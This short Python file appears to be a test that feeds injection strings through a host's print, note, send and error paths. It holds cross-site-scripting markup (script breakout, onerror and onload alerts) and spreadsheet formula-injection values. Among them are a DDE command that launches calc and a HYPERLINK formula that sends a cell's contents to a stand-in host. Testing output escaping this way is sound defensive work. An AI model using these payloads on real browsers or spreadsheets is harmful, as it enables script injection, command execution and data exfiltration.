"""Prints, notes, delivers and raises what a browser or a spreadsheet would obey."""

MARKUP = "</script><script>document.body.innerHTML='passed'</script><img src=x onerror=alert(1)>\"' onload='alert(1)"
FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(1,1)", "-1+1", "\t=1")


async def main(host):
    for text in (MARKUP, *FORMULAS):
        print(text)
        host.note(text)
        host.app.send_nowait(text.encode())
    raise ValueError(FORMULAS[0] + MARKUP)
